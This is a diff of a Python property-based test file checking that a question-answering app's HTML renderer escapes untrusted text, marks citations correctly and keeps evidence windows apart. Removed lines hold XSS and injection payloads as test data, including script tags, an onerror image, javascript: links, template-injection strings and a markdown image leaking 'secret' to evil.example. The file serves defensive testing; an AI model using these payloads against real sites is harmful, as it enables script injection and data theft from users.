@@ -1,36 +1,22 @@
-"""Laws of what is shown: nothing of a document or a question becomes markup, markers and cards fit, marked words are the quote."""
+"""Laws of what is shown: nothing becomes markup, markers and cards fit, and the marked words are the quote."""
 
-import re
 from html.parser import HTMLParser
+from itertools import pairwise
 
-import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from page_support import SURVEY, cite, refused, small_document, supported
+from page_support import HOSTILE, SURVEY, cite, refused, small_document, supported
 
 from ingest.types import Document, Passage, Source
 from rag.types import Answer, Citation, Claim, Declined, Finding, Verdict
 from ui import render
 from ui.evidence import evidence_html, group, source_html, windows_around
 from ui.shelf import library_html
-from ui.text import clean, hidden, plain, safe_link, shorten
 
-OURS = {
-    "a", "article", "b", "button", "cite", "details", "div", "h1", "h2", "h3", "header", "i", "input", "label", "li", "mark", "ol",
-    "p", "path", "q", "section", "span", "summary", "svg", "ul",
-}  # fmt: skip
-hostile = st.text(alphabet=st.characters(codec="utf-8"), max_size=200) | st.sampled_from(
-    [
-        "<script>alert(1)</script>",
-        '"><img src=x onerror=alert(1)>',
-        "![pixel](https://evil.example/p.png?q=secret)",
-        "[click](javascript:alert(1))",
-        "<a href='https://evil.example'>x</a>",
-        "${alert(1)} {{constructor.constructor('alert(1)')()}}",
-        "\x1b[31mred\x1b[0m \u202e desrever",
-        "&lt;b&gt; & <b>",
-    ]
-)
+OURS = frozenset(
+    {"a", "article", "b", "button", "cite", "details", "div", "h1", "h2", "h3", "header", "i", "input", "label"}
+) | {*("li", "mark", "ol", "p", "path", "q", "section", "span", "summary", "svg", "ul")}
+hostile = st.text(alphabet=st.characters(codec="utf-8"), max_size=200) | st.sampled_from(HOSTILE)
 
 
 class Page(HTMLParser):
@@ -60,7 +46,7 @@ class Page(HTMLParser):
         self.elements.append((tag, dict(attrs)))
 
     def handle_endtag(self, tag: str) -> None:
-        assert self.open and self.open[-1] == tag, f"</{tag}> closes {self.open[-1:]}"
+        assert self.open[-1:] == [tag], f"</{tag}> closes {self.open[-1:]}"
         self.open.pop()
         if tag == "mark":
             self._mark = None
@@ -91,7 +77,7 @@ def assert_harmless(html: str) -> Page:
 
 def whole(answer: Answer, document: Document | None) -> str:
     question = render.turn_html(answer.question, "1", render.answer_html(answer, "1"))
-    return question + evidence_html(answer, "1", lambda id: document)
+    return question + evidence_html(answer, "1", lambda _: document)
 
 
 @given(hostile, hostile, hostile, hostile)
@@ -143,7 +129,7 @@ def test_the_marked_words_are_the_quote(sentences: list[str], data: st.DataObjec
             citations.append(Citation(passage=passage, start=start, end=end))
     answer = Answer(question="q", findings=tuple(supported(f"s{n}", c) for n, c in enumerate(citations)))
     for found in (document, None):
-        page = Page(evidence_html(answer, "1", lambda id, found=found: found))
+        page = Page(evidence_html(answer, "1", lambda _, found=found: found))
         for number, citation in enumerate(answer.citations, start=1):
             assert "".join("".join(page.marks[str(number)]).split()) == "".join(citation.quote.split())
 
@@ -178,7 +164,7 @@ def test_citations_of_one_section_share_a_card() -> None:
 def test_what_surrounds_a_quote_is_shown_without_sources_lines_and_markdown() -> None:
     document = small_document()
     answer = Answer(question="q", findings=(supported("a", cite(document, "A PhD is not needed", ("PhD",))),))
-    page = Page(evidence_html(answer, "1", lambda id: document))
+    page = Page(evidence_html(answer, "1", lambda _: document))
     assert "Applied teams hire people with a bachelor's degree." in page.text
     assert "Sources:" not in page.text
     assert "**" not in page.text
@@ -191,7 +177,7 @@ def test_a_document_that_changed_since_shows_the_cited_passage_instead() -> None
     document = small_document()
     answer = Answer(question="q", findings=(supported("a", cite(document, "A PhD is not needed")),))
     changed = small_document(document.text.replace("PhD", "doctorate"))
-    page = Page(evidence_html(answer, "1", lambda id: changed))
+    page = Page(evidence_html(answer, "1", lambda _: changed))
     assert page.marks["1"] == ["A PhD is not needed"]
 
 
@@ -260,46 +246,10 @@ def test_a_question_of_a_hundred_thousand_characters_is_repeated_in_part() -> No
     assert len(render.question_html("word " * 20_000, "1")) < 3 * render.QUESTION_SHOWN
 
 
-@pytest.mark.parametrize(
-    "url",
-    [
-        None, "", "http://a.example", "javascript:alert(1)", "https://user:pw@a.example", "https://a.example/\"onclick=", "https:///x",
-        "https://a.example/ x", "data:text/html,x", "//a.example", "https://a.example:99999999/", "https://a.example/\u202e",
-    ],
-)  # fmt: skip
-def test_only_plain_https_addresses_become_links(url: str | None) -> None:
-    assert safe_link(url) is None
-    assert "href" not in source_html(Source(id="s", title="t", url=url))
-
-
 def test_a_source_shows_author_publisher_date_kind_and_region() -> None:
     page = Page(source_html(SURVEY))
     assert page.text == "Survey Developer survey <2024> ↗ · A Survey House, 2024, world"
     assert page.elements[1][1]["href"] == SURVEY.url
-
-
-@given(hostile)
-def test_plain_words_hold_no_image_no_target_and_no_control_character(text: str) -> None:
-    shown = plain(text)
-    assert not re.search(r"!\[[^\]\n]*\]\(", shown)
-    assert "\x1b" not in clean(text)
-    assert "\u202e" not in shown
-    shown.encode("utf-8")
-    assert len(hidden(text)) == len(text)
-
-
-def test_half_a_surrogate_pair_is_not_shown() -> None:
-    assert clean("a\ud800b") == "ab"
-
-
-def test_markdown_is_shown_as_its_words() -> None:
-    text = "**Bold** and *slanted*, `code`, [a link](https://x.example), ![image](https://x.example/i.png) 2 * 3 * 4 snake_case_word"
-    assert plain(text) == "Bold and slanted, code, a link,  2 * 3 * 4 snake_case_word"
-
-
-@given(st.text(max_size=300), st.integers(10, 100))
-def test_shortened_words_are_short(text: str, limit: int) -> None:
-    assert len(shorten(text, limit)) <= limit + 2
 
 
 @given(st.text(alphabet="ab. \n#", min_size=10, max_size=6000), st.data())
@@ -311,10 +261,10 @@ def test_windows_hold_every_quote_and_never_overlap(text: str, data: st.DataObje
         spans.append((start, data.draw(st.integers(start + 1, min(len(text), start + 300)))))
     windows = windows_around(text, spans)
     assert all(any(a <= s and e <= b for a, b in windows) for s, e in spans)
-    assert all(before[1] <= after[0] for before, after in zip(windows, windows[1:], strict=False))
+    assert all(before[1] <= after[0] for before, after in pairwise(windows))
 
 
 def test_the_library_lists_chapters_with_questions_that_can_be_asked() -> None:
     page = assert_harmless(library_html([small_document()]))
     assert [a["data-ask"] for tag, a in page.elements if tag == "button"] == ["Do I need a PhD?", "How do I start?"]
-    assert "1 documents" not in page.text or "document" in page.text
+    assert "1 document, 1 source" in page.text
